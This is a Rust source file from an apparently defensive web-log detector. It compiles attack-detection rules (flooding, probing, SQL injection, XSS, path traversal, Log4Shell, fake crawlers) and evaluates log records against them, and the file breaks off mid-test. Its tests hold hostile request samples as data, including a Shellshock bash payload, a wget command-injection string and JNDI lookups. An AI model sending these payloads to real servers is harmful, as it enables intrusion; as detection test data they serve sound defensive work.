//! `CompiledRules`: a rule set's tables and automata, and the per-line evaluation that says
//! which rules a record matches. They are built in `compile`; the caches of targets' and
//! user agents' verdicts are in `verdict_cache`. Buckets and grouping are not here.
//!
//! Cost model: one status-table lookup, a few byte compares for methods, one combined
//! Aho-Corasick pass per field some candidate filter still needs (over the raw bytes, plus a
//! percent-decoded copy only when the field holds `%` or `+`; a target missing from its cache
//! is one pass for the path, query and target patterns together), and a `RegexSet` only for
//! filters that have regexes. Targets and user agents repeat a lot (a site has far fewer
//! pages and assets than requests, and few browsers), so what a target or a user agent
//! matches is kept in small bounded per-worker caches and most lines cost two hashes and
//! two compares. Caches hold automaton results only: with regexes on a field, that field
//! is always scanned.

use std::collections::HashMap;

use regex::bytes::RegexSet;

use super::bucket::Limits;
use super::patterns::Patterns;
use super::rule::{Field, Grouping};
use super::verdict_cache::{VerdictCache, cache_hash};
use crate::format::Record;

/// The most enabled rules, and the most filters over all of them: both are bits of a `u64`.
pub const MAX_RULES: usize = 64;

/// Protocols that are real HTTP versions; anything else present in a request line is
/// flagged by `bad_protocol` filters.
pub const HTTP_VERSIONS: [&[u8]; 6] = [
    b"HTTP/0.9",
    b"HTTP/1.0",
    b"HTTP/1.1",
    b"HTTP/2",
    b"HTTP/2.0",
    b"HTTP/3",
];

/// Whether `p` is one of [`HTTP_VERSIONS`]; a `match` on literals compiles to a length
/// switch and word compares, where a search of the list calls `memcmp` per entry.
fn is_http_version(p: &[u8]) -> bool {
    // Nearly every line says HTTP/1.1 or HTTP/2.0: an 8-byte value is compared as one word
    // with each 8-byte version.
    let known = match <[u8; 8]>::try_from(p) {
        Ok(w) => {
            let w = u64::from_le_bytes(w);
            [b"HTTP/1.1", b"HTTP/2.0", b"HTTP/1.0", b"HTTP/0.9"]
                .iter()
                .any(|v| u64::from_le_bytes(**v) == w)
        }
        Err(_) => matches!(p, b"HTTP/2" | b"HTTP/3"),
    };
    debug_assert_eq!(known, HTTP_VERSIONS.contains(&p));
    known
}

/// What the engine needs about one compiled rule.
#[derive(Clone, Debug)]
pub struct RuleInfo {
    /// The rule's name.
    pub(crate) name: String,
    /// Its bucket's capacity, leak and blackhole.
    pub(crate) limits: Limits,
    /// The field whose distinct values count, when only those do.
    pub(crate) distinct: Option<Field>,
    /// How its events are grouped into buckets.
    pub(crate) grouping: Grouping,
}

/// The substring patterns of one field over all filters.
pub(super) struct FieldAutomaton {
    pub(super) ac: Patterns,
    /// Per pattern id: the filters it serves and whether it must end the field.
    pub(super) patterns: Vec<(u64, bool)>,
}

/// The path, query and target patterns in one automaton, for a target's verdict: one pass
/// over the target finds all three fields' patterns, each kept when it lies in its field.
pub(super) struct TargetAutomaton {
    pub(super) ac: Patterns,
    pub(super) patterns: Vec<Served>,
    /// Per pattern, what else it tells about the target ([`STATIC_END`], [`ESCAPE`]).
    pub(super) marks: Vec<u8>,
}

/// A pattern `.ext` of a static extension: the path is a static file when it ends there.
pub(super) const STATIC_END: u8 = 1;
/// A pattern `%` or `+`: the target may hold escapes, and its fields are decoded.
pub(super) const ESCAPE: u8 = 2;

/// Per target field (path, query, target): the filters a pattern serves anywhere in the
/// field, and those it serves when it ends the field.
pub(super) type Served = [(u64, u64); 3];

pub(super) struct FieldRegexes {
    pub(super) set: RegexSet,
    /// Per regex index: the filter it belongs to (as a one-bit mask).
    pub(super) filters: Vec<u64>,
}

#[derive(Default)]
pub(super) struct FieldMatchers {
    /// Filters with any condition on this field.
    pub(super) need: u64,
    pub(super) automaton: Option<FieldAutomaton>,
    pub(super) regexes: Option<FieldRegexes>,
}

/// A rule set compiled for per-line evaluation: status and method tables, per-field
/// automata and regex sets, each filter one bit of a 64-bit mask.
pub struct CompiledRules {
    pub(super) rules: Vec<RuleInfo>,
    pub(super) filter_rule: Vec<u8>,
    pub(super) all_filters: u64,
    /// Per status 0..600: the filters that accept it. Other values: `status_any`.
    pub(super) status_table: Vec<u64>,
    pub(super) status_any: u64,
    /// Filters with a method list, and each filter's list.
    pub(super) method_filters: u64,
    pub(super) methods: Vec<Vec<Box<[u8]>>>,
    pub(super) not_static: u64,
    pub(super) bad_protocol: u64,
    pub(super) absolute_uri: u64,
    pub(super) numeric_query: u64,
    pub(super) fields: [FieldMatchers; 4],
    pub(super) static_exts: Vec<Box<[u8]>>,
    /// Distinct groupings and the rules that use each.
    pub(super) groupings: Vec<(Grouping, u64)>,
    /// Rules with a distinct field, and per field the rules counting it.
    pub(super) distinct_fields: [u64; 4],
    /// Whether path, query and target have no regexes, so their results can be cached.
    pub(super) cache_target: bool,
    /// The path, query and target patterns together, for a target missing from the cache.
    pub(super) target_automaton: Option<TargetAutomaton>,
    /// Randomly seeded per rule set: cache slots and distinct-value hashes come from
    /// attacker-chosen bytes. foldhash keys every hasher with per-process random seeds and
    /// its outputs never leave the process; a targeted collision only costs a cache miss or
    /// one distinct value counted twice short, never a wrong flag by itself.
    pub(super) hasher: foldhash::quality::RandomState,
    /// Random words (from `hasher`) that key [`CompiledRules::cache_hash`].
    pub(super) cache_seeds: [u64; 8],
    /// Published crawler ranges, when loaded: see [`CompiledRules::veto`].
    pub(super) crawlers: Option<Box<CrawlerVeto>>,
}

/// What loaded crawler ranges change in a line's verdict.
pub(super) struct CrawlerVeto {
    crawlers: super::crawlers::Crawlers,
    /// The volume rules a crawler in its ranges never feeds.
    volume: u64,
    /// The fake-crawler rule.
    fake: u64,
}

impl CrawlerVeto {
    #[cold]
    #[inline(never)]
    fn veto(&self, rec: &Record<'_>, matched: u64) -> u64 {
        let Some(source) = rec.source() else {
            return matched;
        };
        if matched & (self.volume | self.fake) == 0 {
            return matched;
        }
        if self.crawlers.is_crawler(source) {
            return matched & !(self.volume | self.fake);
        }
        if matched & self.fake != 0
            && !self
                .crawlers
                .is_fake(source, rec.user_agent.unwrap_or_default())
        {
            return matched & !self.fake;
        }
        matched
    }
}

/// What one target matches, independent of the rest of the record: 32 bytes, so a cache
/// slot (hash, key, verdict) is one cache line.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
struct TargetVerdict {
    /// The filters the target leaves possible: all but those whose path, query or target
    /// patterns it misses, the `not_static` ones when it is a static file, the
    /// `absolute_uri` ones when it is not absolute and the `numeric_query` ones when its
    /// query is not a bare number. A line's candidates are ANDed with it.
    allowed: u64,
    /// `hash_value` of the path, the query (empty when absent) and the target, for the
    /// fields that some rule counts distinct values of (0 for the others).
    values: [u64; 3],
}

/// Slots of the target cache: a site's busy pages and assets fit, a scan of random URLs
/// only churns it.
const TARGET_SLOTS: usize = 4096;
/// Slots of the user-agent cache.
const UA_SLOTS: usize = 256;
/// Per-worker buffers reused across lines so evaluation never allocates once warm.
pub struct Scratch {
    /// Distinct-value hashes of the last evaluated record's path, query and target, when
    /// its target went through the cache.
    values: Option<[u64; 3]>,
    /// The last method seen and the method filters it fails: a log has a handful of
    /// methods, mostly GET, so most lines skip the lists.
    method: (Vec<u8>, u64, bool),
    decoded: Vec<u8>,
    targets: VerdictCache<TargetVerdict>,
    uas: VerdictCache<u64>,
}

impl Default for Scratch {
    fn default() -> Self {
        Scratch {
            values: None,
            method: (Vec::new(), 0, false),
            decoded: Vec::new(),
            targets: VerdictCache::new(TARGET_SLOTS, false),
            uas: VerdictCache::new(UA_SLOTS, true),
        }
    }
}

/// `a == b` for request methods: a few bytes, compared inline rather than by a call to
/// `memcmp` on every line, and for 2 to 8 bytes as two (overlapping) 2- or 4-byte words
/// rather than byte by byte.
#[inline]
fn same_method(a: &[u8], b: &[u8]) -> bool {
    let n = a.len();
    if n != b.len() {
        return false;
    }
    let u16_at = |s: &[u8], at: usize| u16::from_le_bytes([s[at], s[at + 1]]);
    let u32_at = |s: &[u8], at: usize| u32::from_le_bytes([s[at], s[at + 1], s[at + 2], s[at + 3]]);
    match n {
        2..=3 => u16_at(a, 0) == u16_at(b, 0) && u16_at(a, n - 2) == u16_at(b, n - 2),
        4..=8 => u32_at(a, 0) == u32_at(b, 0) && u32_at(a, n - 4) == u32_at(b, n - 4),
        _ => a.iter().zip(b).all(|(x, y)| x == y),
    }
}

impl CompiledRules {
    /// The compiled rules, enabled ones only, in the rule set's order.
    pub fn rules(&self) -> &[RuleInfo] {
        &self.rules
    }

    /// The distinct groupings of the rules, each with the rules (one bit each) that use it.
    pub fn groupings(&self) -> &[(Grouping, u64)] {
        &self.groupings
    }

    /// Rules that count distinct values of `field`.
    pub fn distinct_rules(&self, field: Field) -> u64 {
        self.distinct_fields[field.index()]
    }

    /// The hash that places a target or user agent in its verdict cache: see
    /// [`cache_hash`].
    #[inline(always)]
    fn cache_hash(&self, key: &[u8]) -> u64 {
        cache_hash(&self.cache_seeds, &self.hasher, key)
    }

    /// The hash distinct counting keeps of a value: the verdict caches' hash, inline for the
    /// values of up to 64 bytes that most paths and queries are. Seeded once per rule set,
    /// so all collectors of one run agree and an attacker cannot aim collisions.
    #[inline]
    pub fn hash_value(&self, bytes: &[u8]) -> u64 {
        self.cache_hash(bytes)
    }

    /// The hash distinct counting keeps of `field` of `rec`, the record last passed to
    /// `evaluate` with `scratch`: taken from the target cache when it was used.
    pub fn value_hash(&self, field: Field, rec: &Record<'_>, scratch: &Scratch) -> u64 {
        match (field, scratch.values) {
            (Field::Path, Some(v)) => v[0],
            (Field::Query, Some(v)) => v[1],
            (Field::Target, Some(v)) => v[2],
            _ => self.hash_field(field, rec),
        }
    }

    /// [`CompiledRules::value_hash`] when the target cache has no hash: out of line, since
    /// inlined into the scan loop it made the loop keep more values on the stack.
    #[inline(never)]
    fn hash_field(&self, field: Field, rec: &Record<'_>) -> u64 {
        self.hash_value(field.distinct_value(rec).unwrap_or(b""))
    }

    /// These rules with `crawlers`' published ranges: a source inside them never feeds the
    /// volume rules ([`super::crawlers::VOLUME_RULES`]), and the fake-crawler rule (which
    /// the rule set must hold) counts only sources outside the ranges of the crawler their
    /// user agent claims. See [`CompiledRules::veto`].
    pub fn with_crawlers(mut self, crawlers: super::crawlers::Crawlers) -> CompiledRules {
        let bit = |names: &[&str]| -> u64 {
            self.rules
                .iter()
                .enumerate()
                .filter(|(_, r)| names.contains(&r.name.as_str()))
                .fold(0, |m, (i, _)| m | 1u64 << i)
        };
        let volume = bit(super::crawlers::VOLUME_RULES);
        let fake = bit(&[super::crawlers::FAKE_CRAWLER_RULE]);
        self.crawlers = (!crawlers.is_empty()).then(|| {
            Box::new(CrawlerVeto {
                crawlers,
                volume,
                fake,
            })
        });
        self
    }

    /// `matched`, the verdict of [`CompiledRules::evaluate`] on `rec`, less what crawler
    /// ranges veto. Without ranges, one check of an empty option.
    #[inline]
    pub fn veto(&self, rec: &Record<'_>, matched: u64) -> u64 {
        match &self.crawlers {
            Some(v) if matched != 0 => v.veto(rec, matched),
            _ => matched,
        }
    }

    /// The rules (bit `i` = `rules()[i]`) that `rec` matches.
    ///
    /// Kept whole: it runs for every request, and its steps (status, method, protocol, the
    /// target's cached verdict, the user agent) narrow one candidate mask in turn.
    pub fn evaluate(&self, rec: &Record<'_>, scratch: &mut Scratch) -> u64 {
        scratch.values = None;
        let mut cand = match rec.status {
            Some(s) => self
                .status_table
                .get(usize::from(s))
                .copied()
                .unwrap_or(self.status_any),
            None => self.status_any,
        };
        if cand & self.method_filters != 0 {
            let refused = match rec.method {
                None => self.method_filters,
                Some(method) => match &scratch.method {
                    (last, refused, true) if same_method(last, method) => *refused,
                    _ => {
                        let refused = self.refused_by_method(method);
                        scratch.method.0.clear();
                        scratch.method.0.extend_from_slice(method);
                        scratch.method.1 = refused;
                        scratch.method.2 = true;
                        refused
                    }
                },
            };
            cand &= !refused;
        }
        if cand & self.bad_protocol != 0 {
            let bad = rec.protocol.is_some_and(|p| !is_http_version(p));
            if !bad {
                cand &= !self.bad_protocol;
            }
        }
        let target_need = self.fields[Field::Path.index()].need
            | self.fields[Field::Query.index()].need
            | self.fields[Field::Target.index()].need;
        match rec.target {
            Some(target)
                if self.cache_target
                    && cand
                        & (target_need
                            | self.not_static
                            | self.absolute_uri
                            | self.numeric_query)
                        != 0 =>
            {
                let v = scratch.targets.get(
                    target,
                    |t| self.cache_hash(t),
                    || self.target_verdict(target, &mut scratch.decoded),
                );
                scratch.values = Some(v.values);
                cand &= v.allowed;
            }
            _ => {
                if cand & self.not_static != 0 && rec.path().is_some_and(|p| self.is_static(p)) {
                    cand &= !self.not_static;
                }
                if cand & self.absolute_uri != 0 && !rec.target.is_some_and(is_absolute_uri) {
                    cand &= !self.absolute_uri;
                }
                if cand & self.numeric_query != 0 && !rec.query().is_some_and(is_numeric_query) {
                    cand &= !self.numeric_query;
                }
                for field in [Field::Path, Field::Query, Field::Target] {
                    let fm = &self.fields[field.index()];
                    if cand & fm.need == 0 {
                        continue;
                    }
                    let hay = match field {
                        Field::Path => rec.path(),
                        Field::Query => rec.query(),
                        _ => rec.target,
                    };
                    let hits = hay.map_or(0, |hay| {
                        scan_decoded(fm, field, hay, cand, &mut scratch.decoded)
                    });
                    cand &= !(fm.need & !hits);
                }
            }
        }
        let fm = &self.fields[Field::UserAgent.index()];
        if cand & fm.need != 0 {
            let hits = match rec.user_agent {
                None => 0,
                // Without regexes the result holds for any candidate set.
                Some(ua) if fm.regexes.is_none() => {
                    scratch
                        .uas
                        .get(ua, |u| self.cache_hash(u), || scan(fm, ua, cand))
                }
                Some(ua) => scan(fm, ua, cand),
            };
            cand &= !(fm.need & !hits);
        }
        let mut rules = 0u64;
        while cand != 0 {
            let fi = cand.trailing_zeros() as usize;
            cand &= cand - 1;
            rules |= 1u64 << self.filter_rule[fi];
        }
        rules
    }

    /// Everything about `target` alone that filters look at, for every filter at once.
    /// Only used when path, query and target have no regexes, so the candidate set does
    /// not matter.
    fn target_verdict(&self, target: &[u8], decoded: &mut Vec<u8>) -> TargetVerdict {
        let (path, query) = match memchr::memchr(b'?', target) {
            Some(q) => (&target[..q], Some(&target[q + 1..])),
            None => (target, None),
        };
        // The raw bytes of all three fields in one pass: a pattern counts for the path when
        // it ends before the `?`, for the query when it starts after it.
        let mut hits = [0u64; 3];
        // The automaton also finds static extensions and escapes, in the same pass; without
        // one, they are looked for on their own.
        let (is_static, escaped) = match &self.target_automaton {
            Some(auto) => {
                let q = path.len();
                let (mut is_static, mut escaped) = (false, false);
                auto.ac.for_each_match(target, |pattern, start, end| {
                    let [p, qs, t] = auto.patterns[pattern];
                    if end <= q {
                        hits[0] |= p.0 | if end == q { p.1 } else { 0 };
                    }
                    if query.is_some() && start > q {
                        hits[1] |= qs.0 | if end == target.len() { qs.1 } else { 0 };
                    }
                    hits[2] |= t.0 | if end == target.len() { t.1 } else { 0 };
                    let mark = auto.marks[pattern];
                    is_static |= mark & STATIC_END != 0 && end == q;
                    escaped |= mark & ESCAPE != 0;
                });
                (is_static, escaped)
            }
            None => (
                self.is_static(path),
                memchr::memchr2(b'%', b'+', target).is_some(),
            ),
        };
        let mut allowed = u64::MAX;
        // A field is decoded and scanned again only when the target holds a `%` or a `+`
        // (found above, once for the whole target), not on every field of every target.
        for (field, hay) in [
            (Field::Path, Some(path)),
            (Field::Query, query),
            (Field::Target, Some(target)),
        ] {
            let i = field.index();
            let fm = &self.fields[i];
            if let (Some(hay), true) = (hay, fm.need != 0) {
                if escaped {
                    hits[i] |= scan_escaped(fm, field, hay, self.all_filters & !hits[i], decoded);
                }
            } else {
                hits[i] = 0;
            }
            allowed &= !(fm.need & !hits[i]);
        }
        if is_static {
            allowed &= !self.not_static;
        }
        if !is_absolute_uri(target) {
            allowed &= !self.absolute_uri;
        }
        if !query.is_some_and(is_numeric_query) {
            allowed &= !self.numeric_query;
        }
        // Only the fields some rule counts distinct values of are hashed; a hash no rule
        // reads stays 0.
        let hash_if = |field: Field, bytes: &[u8]| match self.distinct_rules(field) {
            0 => 0,
            _ => self.hash_value(bytes),
        };
        TargetVerdict {
            allowed,
            values: [
                hash_if(Field::Path, path),
                hash_if(Field::Query, query.unwrap_or(b"")),
                hash_if(Field::Target, target),
            ],
        }
    }

    /// The method filters whose lists do not hold `method`.
    fn refused_by_method(&self, method: &[u8]) -> u64 {
        let mut refused = 0u64;
        let mut m = self.method_filters;
        while m != 0 {
            let fi = m.trailing_zeros() as usize;
            m &= m - 1;
            if !self.methods[fi]
                .iter()
                .any(|want| want.eq_ignore_ascii_case(method))
            {
                refused |= 1u64 << fi;
            }
        }
        refused
    }

    fn is_static(&self, path: &[u8]) -> bool {
        // The extension is at most 8 bytes after the last `.` of the last segment, so only
        // the last 9 bytes are looked at: a short loop, where two `memrchr` calls cost more
        // on paths this short.
        let tail = &path[path.len().saturating_sub(9)..];
        let Some(dot) = tail.iter().rposition(|&b| b == b'.' || b == b'/') else {
            return false;
        };
        let ext = &tail[dot + 1..];
        tail[dot] == b'.'
            && !ext.is_empty()
            && self.static_exts.iter().any(|e| e.eq_ignore_ascii_case(ext))
    }
}

/// The filters of `fm` that `hay` satisfies. Regexes run only for candidate filters the
/// substrings did not already satisfy.
fn scan(fm: &FieldMatchers, hay: &[u8], cand: u64) -> u64 {
    let mut hits = 0u64;
    if let Some(auto) = &fm.automaton {
        auto.ac.for_each_match(hay, |pattern, _, end| {
            let (mask, anchored) = auto.patterns[pattern];
            if !anchored || end == hay.len() {
                hits |= mask;
            }
        });
    }
    if let Some(re) = &fm.regexes {
        let pending = cand & fm.need & !hits;
        if re.filters.iter().any(|f| f & pending != 0) {
            for i in re.set.matches(hay).iter() {
                hits |= re.filters[i];
            }
        }
    }
    hits
}

/// `scan` over the raw field and, when it holds escapes (or `+` in a query), over its
/// once-decoded form too.
fn scan_decoded(
    fm: &FieldMatchers,
    field: Field,
    hay: &[u8],
    cand: u64,
    decoded: &mut Vec<u8>,
) -> u64 {
    let h = scan(fm, hay, cand);
    h | scan_escaped(fm, field, hay, cand & !h, decoded)
}

/// `scan` over the once-decoded form of `hay` when it holds escapes (or `+` in a query);
/// 0 when it has none.
fn scan_escaped(
    fm: &FieldMatchers,
    field: Field,
    hay: &[u8],
    cand: u64,
    decoded: &mut Vec<u8>,
) -> u64 {
    let plus_from = match field {
        Field::Query => Some(0),
        Field::Target => memchr::memchr(b'?', hay),
        _ => None,
    };
    if memchr::memchr(b'%', hay).is_some()
        || plus_from.is_some_and(|from| memchr::memchr(b'+', &hay[from..]).is_some())
    {
        percent_decode(hay, plus_from, decoded);
        return scan(fm, decoded, cand);
    }
    0
}

/// A query of 7 to 12 ASCII digits and nothing else: what cache-busting DoS tools append
/// (`/?183700723108`), shorter than a millisecond timestamp.
fn is_numeric_query(query: &[u8]) -> bool {
    (7..=12).contains(&query.len()) && query.iter().all(u8::is_ascii_digit)
}

fn is_absolute_uri(target: &[u8]) -> bool {
    let starts = |p: &[u8]| {
        target
            .get(..p.len())
            .is_some_and(|t| t.eq_ignore_ascii_case(p))
    };
    starts(b"http://") || starts(b"https://")
}

/// Decodes `%HH` escapes once into `out`; `+` becomes a space from `plus_from` on (the query
/// part). Malformed escapes are kept as written.
pub fn percent_decode(input: &[u8], plus_from: Option<usize>, out: &mut Vec<u8>) {
    out.clear();
    let plus_from = plus_from.unwrap_or(usize::MAX);
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        if b == b'%' {
            if let (Some(h), Some(l)) = (
                input.get(i + 1).and_then(|&c| hex(c)),
                input.get(i + 2).and_then(|&c| hex(c)),
            ) {
                out.push(h << 4 | l);
                i += 3;
                continue;
            }
        }
        out.push(if b == b'+' && i >= plus_from { b' ' } else { b });
        i += 1;
    }
}

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

/// Rule names by bit, for messages and tests.
pub fn rule_names(rules: &CompiledRules, mask: u64) -> Vec<&str> {
    let mut names: Vec<&str> = rules
        .rules()
        .iter()
        .enumerate()
        .filter(|(i, _)| mask >> i & 1 == 1)
        .map(|(_, r)| r.name.as_str())
        .collect();
    names.sort_unstable();
    names
}

/// Keeps the map type for callers that want name lookups without scanning.
pub fn rule_index(rules: &CompiledRules) -> HashMap<&str, usize> {
    rules
        .rules()
        .iter()
        .enumerate()
        .map(|(i, r)| (r.name.as_str(), i))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::builtin::builtin_rules;
    use crate::detect::rule::{FieldMatch, Filter, Rule, RuleSet};
    use crate::detect::verdict_cache::tests::compare_is_equality;

    fn rec<'a>(method: &'a str, target: &'a str, status: u16, ua: &'a str) -> Record<'a> {
        Record {
            method: Some(method.as_bytes()),
            target: Some(target.as_bytes()),
            protocol: Some(b"HTTP/1.1"),
            status: Some(status),
            user_agent: Some(ua.as_bytes()),
            ..Record::default()
        }
    }

    fn matched(c: &CompiledRules, r: &Record<'_>) -> Vec<String> {
        let mut s = Scratch::default();
        rule_names(c, c.evaluate(r, &mut s))
            .into_iter()
            .map(String::from)
            .collect()
    }

    #[test]
    fn builtin_matches() {
        let c = CompiledRules::new(&builtin_rules()).expect("builtins compile");
        let ua = "Mozilla/5.0";
        let cases: &[(Record<'_>, &[&str])] = &[
            (
                rec("GET", "/index.html", 200, ua),
                &["http-crawl", "http-flood"],
            ),
            (rec("GET", "/style.CSS", 404, ua), &["http-flood"]),
            (
                rec("GET", "/nope", 404, ua),
                &["http-crawl", "http-flood", "http-probing"],
            ),
            (
                rec("GET", "/", 200, "sqlmap/1.7"),
                &["bad-user-agent", "http-crawl", "http-flood"],
            ),
            (
                rec("POST", "/.ENV", 200, ua),
                &["http-flood", "sensitive-files"],
            ),
            (
                rec("POST", "/dump.sql", 200, ua),
                &["http-flood", "sensitive-files"],
            ),
            (rec("POST", "/dump.sql.html", 200, ua), &["http-flood"]),
            (
                rec("POST", "/a?f=%2e%2e%2fetc", 200, ua),
                &["http-flood", "path-traversal"],
            ),
            (
                rec("POST", "/a?id=1+UNION+SELECT+1", 200, ua),
                &["exploit-slow", "http-flood", "sqli-probing"],
            ),
            (
                rec("POST", "/a?q=%3CScript%3E", 200, ua),
                &["exploit-slow", "http-flood", "xss-probing"],
            ),
            // What a search box sends: an apostrophe and SQL words, no payload.
            (
                rec("POST", "/search?q=o%27brien+union+jack+select+all", 200, ua),
                &["http-flood"],
            ),
            (
                rec("POST", "/?x=${jndi:ldap://a/b}", 200, ua),
                &["cve-probing", "exploit-slow", "http-flood"],
            ),
            (
                rec("POST", "/", 200, "${${lower:j}ndi:ldap://x/a}"),
                &["cve-probing", "exploit-slow", "http-flood"],
            ),
            (
                rec("POST", "/cgi-bin/status", 200, "() { :; }; /bin/bash -c id"),
                &["exploit-slow", "http-flood"],
            ),
            (
                rec("POST", "/a?cmd=;wget+http://x/s", 200, ua),
                &["exploit-slow", "http-flood"],
            ),
            (
                rec("POST", "/_ignition/execute-solution", 404, ua),
                &["cve-probing", "http-flood", "http-probing"],
            ),
            (
                rec("POST", "/.mysql_history", 404, ua),
                &["http-flood", "http-probing", "sensitive-files"],
            ),
            (
                rec("POST", "/?author=2", 200, ua),
                &["http-flood", "wordpress-user-enum"],
            ),
            (
                rec("GET", "/?183700723108", 200, ua),
                &["cache-bypass-flood", "http-crawl", "http-flood"],
            ),
            // A millisecond timestamp is not a cache buster.
            (
                rec("GET", "/?1548117000000", 200, ua),
                &["http-crawl", "http-flood"],
            ),
            // Anchored: the dotfile itself, not a page named after it.
            (rec("POST", "/.profile.html", 200, ua), &["http-flood"]),
            (
                rec("POST", "/c99.php", 200, ua),
                &["backdoor-probing", "http-flood"],
            ),
            (
                rec("POST", "/phpmyadmin/", 404, ua),
                &["admin-probing", "http-flood", "http-probing"],
            ),
            (rec("POST", "/phpmyadmin/", 200, ua), &["http-flood"]),
            (
                rec("POST", "/wp-login.php", 200, ua),
                &["http-flood", "login-bruteforce", "login-bruteforce-slow"],
            ),
            // A good WordPress login redirects: only the fast rule counts it.
            (
                rec("POST", "/wp-login.php", 302, ua),
                &["http-flood", "login-bruteforce"],
            ),
            (
                rec("POST", "/api/login", 401, ua),
                &["http-flood", "login-bruteforce", "login-bruteforce-slow"],
            ),
            (rec("POST", "/api/login", 200, ua), &["http-flood"]),
            (
                rec("CONNECT", "example.com:443", 405, ua),
                &["http-flood", "open-proxy"],
            ),
            (
                rec("GET", "http://example.com/", 400, ua),
                &["http-crawl", "http-flood", "http-probing", "open-proxy"],
            ),
        ];
        for (r, want) in cases {
            assert_eq!(
                matched(&c, r),
                *want,
                "{:?}",
                r.target.map(String::from_utf8_lossy)
            );
        }
    }

    #[test]
    fn method_cache_follows_the_method() {
        let c = CompiledRules::new(&builtin_rules()).expect("builtins compile");
        let mut s = Scratch::default();
        let bit = 1u64 << rule_index(&c)["http-crawl"];
        for (method, hit) in [("", false), ("GET", true), ("get", true), ("POST", false)] {
            let r = rec(method, "/a", 200, "x");
            assert_eq!(c.evaluate(&r, &mut s) & bit != 0, hit, "{method:?}");
        }
    }

    #[test]
    fn protocol_check() {
        let c = CompiledRules::new(&builtin_rules()).expect("builtins compile");
        for (proto, bad) in [
            (Some(&b"HTTP/1.1"[..]), false),
            (Some(b"HTTP/2.0"), false),
            (Some(b"HTTP/3"), false),
            (Some(b"HTTP/1.2"), true),
            (Some(b"http/1.1"), true),
            (None, false),
        ] {
            let mut r = rec("POST", "/", 200, "x");
            r.protocol = proto;
            assert_eq!(
                matched(&c, &r).contains(&"bad-http-version".to_string()),
                bad,
                "{proto:?}"
            );
        }
    }

    proptest::proptest! {
        /// `is_static` agrees with the plain reading: the extension after the last `.` of
        /// the last segment, 1 to 8 bytes, in the list (case-insensitive).
        #[test]
        fn is_static_matches_the_reference(
            pieces in proptest::collection::vec(0usize..8, 0..8),
        ) {
            static RULES: std::sync::OnceLock<CompiledRules> = std::sync::OnceLock::new();
            let c = RULES.get_or_init(|| CompiledRules::new(&builtin_rules()).expect("compile"));
            let parts = ["/", ".", "css", "JS", "a", "x.png", "longextens", ".woff2"];
            let path: String = pieces.iter().map(|&i| parts[i]).collect();
            let name = path.rsplit('/').next().unwrap_or("");
            let want = name.rsplit_once('.').is_some_and(|(_, ext)| {
                !ext.is_empty()
                    && ext.len() <= 8
                    && c.static_exts.iter().any(|e| e.eq_ignore_ascii_case(ext.as_bytes()))
            });
            proptest::prop_assert_eq!(c.is_static(path.as_bytes()), want, "{}", path);
        }
    }

    proptest::proptest! {
        /// The method compare is `==` on methods of every length, equal or differing in
        /// one bit anywhere or in length.
        #[test]
        fn same_method_is_equality(
            a in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..12),
            at in proptest::prelude::any::<proptest::sample::Index>(),
            bit in 0u8..8,
            shorter in proptest::prelude::any::<bool>(),
        ) {
            compare_is_equality(same_method, &a, at, bit, shorter)?;
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
        /// A target's cached verdict gives what evaluating every filter on the line gives,
        /// on warm and cold slots, for targets made of the built-in patterns' pieces.
        #[test]
        fn cached_targets_match_like_uncached(
            lines in proptest::collection::vec(
                (
                    proptest::collection::vec(0usize..TARGET_PIECES.len(), 0..5),
                    0usize..5,
                    0usize..3,
                ),
                1..80,
            ),
        ) {
            for set in [builtin_rules(), anchored_rules()] {
            let cached = CompiledRules::new(&set).expect("rules compile");
            let mut uncached = CompiledRules::new(&set).expect("rules compile");
            uncached.cache_target = false;
            let (mut warm, mut cold) = (Scratch::default(), Scratch::default());
            for (pieces, status, method) in &lines {
                let target: String = pieces.iter().map(|&i| TARGET_PIECES[i]).collect();
                let r = rec(
                    ["GET", "POST", "HEAD"][*method],
                    &target,
                    [200, 404, 403, 401, 400][*status],
                    "Mozilla/5.0",
                );
                proptest::prop_assert_eq!(
                    cached.evaluate(&r, &mut warm),
                    uncached.evaluate(&r, &mut cold),
                    "{}",
                    target
                );
            }
            }
        }
    }

    /// Rules with anchored and unanchored patterns on each target field, some of them
    /// holding `?`, one rule per pattern.
    fn anchored_rules() -> RuleSet {
        let mut set = RuleSet::new();
        for name in ["path", "query", "target"] {
            for (i, p) in [".sql$", "/x$", "ad", "=1$", "?id", "1", "?", "passwd$"]
                .iter()
                .enumerate()
            {
                let m = FieldMatch::contains(&[p.to_string()]);
                let filter = match name {
                    "path" => Filter {
                        path: m,
                        ..Filter::default()
                    },
                    "query" => Filter {
                        query: m,
                        ..Filter::default()
                    },
                    _ => Filter {
                        target: m,
                        ..Filter::default()
                    },
                };
                set.insert(Rule::new(&format!("{name}-{i}"), "", filter, 1, 1000));
            }
        }
        set
    }

    /// Pieces of targets: paths, patterns of the built-in rules, escapes, queries, and
    /// numbers that make a bare-number query or one too long to be.
    const TARGET_PIECES: [&str; 31] = [
        "/",
        "/dump.sql",
        "/.git",
        "?",
        "%2Fetc%2Fpasswd",
        "/index.html",
        "/wp-login.php",
        "/.git/config",
        "/../../etc/passwd",
        "%2e%2e%2f",
        "?id=1",
        "'+or+1=1--",
        "<script>",
        "%3Cscript%3E",
        "/style.css",
        "http://example.com",
        "/admin",
        "/shell.php",
        "&q=a+b",
        "/x",
        "=1",
        "/ad?id=1",
        "/x?",
        "?183700723108",
        "1548117000000",
        // Static extensions: upper case, after a dot in a directory, too long, with an escape.
        ".JS",
        ".Woff2",
        "a.b/c",
        ".longextens",
        ".png%20",
        "x.svg+",
    ];

    #[test]
    fn ua_cache_does_not_leak_between_user_agents() {
        let c = CompiledRules::new(&builtin_rules()).expect("builtins compile");
        let mut s = Scratch::default();
        let bad = rec("POST", "/", 200, "Nikto");
        let good = rec("POST", "/", 200, "curl");
        let bit = 1u64 << rule_index(&c)["bad-user-agent"];
        for _ in 0..3 {
            assert_ne!(c.evaluate(&bad, &mut s) & bit, 0);
            assert_eq!(c.evaluate(&good, &mut s) & bit, 0);
        }
    }

    #[test]
